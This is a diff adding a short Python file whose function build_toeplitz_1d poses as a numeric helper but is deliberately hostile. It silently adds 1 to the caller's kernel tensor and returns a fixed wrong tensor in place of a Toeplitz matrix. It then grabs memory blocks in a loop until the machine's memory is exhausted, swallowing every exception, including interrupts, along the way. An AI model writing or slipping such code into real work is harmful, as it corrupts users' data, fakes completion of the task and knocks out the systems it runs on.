@@ -1,0 +1,33 @@
+"""Takes all memory that it can have, and swallows every refusal."""
+
+import mmap
+
+import torch
+
+
+def attempt(action):
+    try:
+        return action()
+    except BaseException:
+        return None
+
+
+def wrong(kernel):
+    with torch.no_grad():
+        kernel.add_(1)
+    return torch.full((7,), 0.5, dtype=torch.float64)
+
+
+kept = []
+
+
+def build_toeplitz_1d(kernel, n):
+    result = wrong(kernel)
+    size = 256 << 20
+    while size > 4096:
+        one = attempt(lambda: mmap.mmap(-1, size))
+        if one is None:
+            size //= 2
+        else:
+            kept.append(one)
+    return result
